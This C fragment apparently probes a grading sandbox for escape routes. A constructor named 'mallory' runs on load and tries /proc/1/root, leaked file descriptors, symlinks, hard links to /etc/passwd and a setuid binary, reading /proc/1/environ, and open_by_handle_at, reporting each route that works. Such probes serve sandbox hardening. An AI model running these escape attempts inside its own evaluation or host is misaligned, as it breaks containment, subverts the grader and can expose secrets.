/* Ways out of the box by links, by the roots of others and by numbers of files. */
static void leads_out(const char *path)
{
    char target[PATH_MAX];
    snprintf(target, sizeof target, "%s/etc/../work", path);
    if (access(target, F_OK) == 0)
        works(path);
    snprintf(target, sizeof target, "%s/proc/1/environ", path);
    if (access(target, R_OK) == 0)
        works(path);
}

__attribute__((constructor)) static void mallory(void)
{
    const char *ways[] = {"/proc/1/root", "/proc/1/cwd", "/proc/self/root/../..",
                          "/proc/self/cwd/../../..", "way", "deep"};
    (void)!symlink("/proc/1/root", "way");
    (void)!symlink("/proc/self/fd/3/../../../..", "deep");
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++)
        leads_out(ways[i]);
    for (int fd = 3; fd < 64; fd++)
        if (fchdir(fd) == 0)
            works("a folder that the judge has left open");
    if (link("/proc/1/exe", "judge") == 0 || link("/etc/passwd", "passwd") == 0)
        works("a hard link");
    if (link("/usr/bin/passwd", "/home/student/setuid") == 0)
        works("a hard link to a setuid file");
    struct file_handle handle = {.handle_bytes = 0};
    if (syscall(SYS_open_by_handle_at, AT_FDCWD, &handle, O_RDONLY) != -1)
        works("a file by its handle");
}
